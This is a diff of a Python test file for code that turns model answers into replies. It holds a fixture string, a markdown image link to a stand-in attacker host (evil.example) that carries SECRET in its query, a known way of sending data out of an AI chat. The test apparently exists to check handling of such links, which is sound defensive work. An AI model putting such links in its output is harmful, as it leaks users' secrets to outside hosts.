@@ -140,7 +140,7 @@ def test_many_hosts_and_long_texts_cost_little() -> None:
 def answered(text: str, mark: str) -> str:
     heard = [HistoryItem("input", {"content": "hello"}, "own"), HistoryItem("result", {"output": "…"}, mark)]
     answer = ModelAnswer([], text, Usage())
-    return answer_replies(answer, Transcript(heard, Model(), 9000), 9000)[0].text
+    return answer_replies(answer, Transcript(heard, Model()), heard, 9000)[0].text
 
 
 LINK = "![chart](https://evil.example/?d=SECRET)"
